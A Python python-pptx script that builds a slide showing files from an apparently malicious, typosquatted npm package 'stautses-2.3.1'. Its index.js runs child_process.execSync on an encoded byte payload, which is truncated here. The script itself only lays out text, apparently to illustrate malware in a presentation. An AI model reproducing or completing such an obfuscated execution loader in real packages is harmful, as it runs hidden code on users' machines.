
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, MSO_AUTO_SIZE, PP_ALIGN
from pptx.util import Inches, Pt

COLOURS = {
    "black": "000000",
    "plain": "24292E",
    "key": "005CC5",
    "string": "032F62",
    "call": "6F42C1",
}
CODE_FONT, CAPTION_FONT = "Courier New", "Times New Roman"
BLANK_LAYOUT = 6

# Each line of code is its indent depth and its (text, colour) tokens.
PACKAGE_JSON = [
    (0, [("{", "plain")]),
    (1, [('"name"', "key"), (": ", "plain"), ('"stautses"', "string"), (",", "plain")]),
    (1, [('"version"', "key"), (": ", "plain"), ('"2.3.1"', "string"), (",", "plain")]),
    (1, [('"scripts"', "key"), (": {", "plain")]),
    (2, [('"test"', "key"), (": ", "plain"), ('"uname -a"', "string")]),
    (1, [("}", "plain")]),
    (0, [("}", "plain")]),
]
PAYLOAD = (
    "101,99,103,90,113,115,50,84,82,78,81,115,85,75,114,83,76,83,74,69,118,73,119,84,88,"
    "116,119,119,67,86,87,119,83,68,98,74,73,51,50,53,55,80,80,104,74,66,108,85,121,100,78,"
    "49,90,55,65,57,118,109,100,101,54,43,80,119,121,67,54,110,100,53,53,97,86,85,54,101,"
    "86,88,108,66,88,77,111,98,54,82,68,99,121,89,48,83,89,76,53,84,90,82,52,80,57,65,82,"
    "100,89,110,79,109,104,86,70,82,87,98,120,90,74..."
)
INDEX_JS = [
    (0, [
        ("require", "call"), ("(‘child_process’).", "plain"),
        ("execSync", "call"), ("(", "plain"),
        ("Buffer", "call"), (".", "plain"), ("from", "call"),
        (f"([{PAYLOAD}])+__filename);", "plain"),
    ]),
]


class ListingSlide:
    """Stacks captioned code boxes down one slide, measured in inches."""

    left, width = 0.21, 6.67
    caption_height, caption_gap = 0.4, 0.02
    indent = 0.5
    text_size = Pt(18)

    def __init__(self, presentation):
        self.slide = presentation.slides.add_slide(presentation.slide_layouts[BLANK_LAYOUT])
        self.top = 0.09

    def place(self, height):
        """Return the next box's position and size, and move below it."""
        box = [Inches(n) for n in (self.left, self.top, self.width, height)]
        self.top += height + self.caption_gap
        return box

    def add_caption(self, text):
        frame = self.slide.shapes.add_textbox(*self.place(self.caption_height)).text_frame
        frame.word_wrap = True
        frame.auto_size = MSO_AUTO_SIZE.SHAPE_TO_FIT_TEXT
        paragraph = frame.paragraphs[0]
        paragraph.text = text
        self.set_font(paragraph, CAPTION_FONT)
        paragraph.font.color.rgb = RGBColor.from_string(COLOURS["black"])

    def add_code(self, lines, height):
        shape = self.slide.shapes.add_shape(MSO_SHAPE.RECTANGLE, *self.place(height))
        shape.shadow.inherit = False
        shape.fill.background()
        shape.line.color.rgb = RGBColor.from_string(COLOURS["black"])
        shape.line.width = Pt(1)
        frame = shape.text_frame
        frame.word_wrap = True
        frame.auto_size = MSO_AUTO_SIZE.SHAPE_TO_FIT_TEXT
        frame.vertical_anchor = MSO_ANCHOR.MIDDLE
        for number, (depth, tokens) in enumerate(lines):
            paragraph = frame.add_paragraph() if number else frame.paragraphs[0]
            self.write_line(paragraph, depth, tokens)

    def write_line(self, paragraph, depth, tokens):
        paragraph.alignment = PP_ALIGN.LEFT
        paragraph.level = depth
        properties = paragraph._p.get_or_add_pPr()
        properties.set("marL", str(Inches(self.indent * depth)))
        properties.set("indent", "0")
        self.set_font(paragraph, CODE_FONT)
        for text, colour in tokens:
            run = paragraph.add_run()
            run.text = text
            run.font.color.rgb = RGBColor.from_string(COLOURS[colour])

    def set_font(self, paragraph, name):
        paragraph.font.name = name
        paragraph.font.size = self.text_size


def main():
    presentation = Presentation()
    presentation.slide_width = Inches(7.09)
    presentation.slide_height = Inches(7.11)
    listing = ListingSlide(presentation)
    listing.add_caption("stautses-2.3.1/package/package.json")
    listing.add_code(PACKAGE_JSON, height=2.22)
    listing.add_caption("stautses-2.3.1/package/index.js")
    listing.add_code(INDEX_JS, height=3.43)
    presentation.save("out.pptx")


if __name__ == "__main__":
    main()
